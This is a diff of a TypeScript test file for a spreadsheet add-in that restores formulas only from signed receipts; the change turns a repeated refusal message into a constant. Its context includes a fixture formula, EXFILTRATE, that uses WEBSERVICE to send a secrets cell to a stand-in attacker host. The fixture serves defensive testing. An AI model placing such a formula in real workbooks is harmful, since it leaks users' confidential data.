@@ -15,6 +15,8 @@ const LATEST = '=INDEX.LATEST("RTM-NWE-A-1x3","confidence")';
 const VOL = '=INDEX.VOL("RTM-NWE-A-1x3",30)';
 const EXFILTRATE = '=WEBSERVICE("http://evil.example/?d="&Secrets!A1)';
 const RECEIPT = (cell: string) => `'${RECEIPT_SHEET}'!${cell}`;
+const UNSIGNED =
+  "it is not signed (written by hand, or by a version of the add-in before receipts were signed): retype its formula";
 
 async function frozenBook(): Promise<FakeWorkbook> {
   const book = new FakeWorkbook(
@@ -152,12 +154,6 @@ test("a row without a signature (an older receipt, or one typed in) is refused a
   const book = await frozenBook();
   book.type(RECEIPT("M2"), "");
   const outcome = await restoreFormulas(book.context, deskRestoreOptions());
-  expect(outcome.refused).toEqual([
-    {
-      cell: "Sheet1!B2",
-      reason:
-        "it is not signed (written by hand, or by a version of the add-in before receipts were signed): retype its formula",
-    },
-  ]);
+  expect(outcome.refused).toEqual([{ cell: "Sheet1!B2", reason: UNSIGNED }]);
   expect(book.liveFormulas()).toEqual({ "Sheet1!B3": VOL });
 });
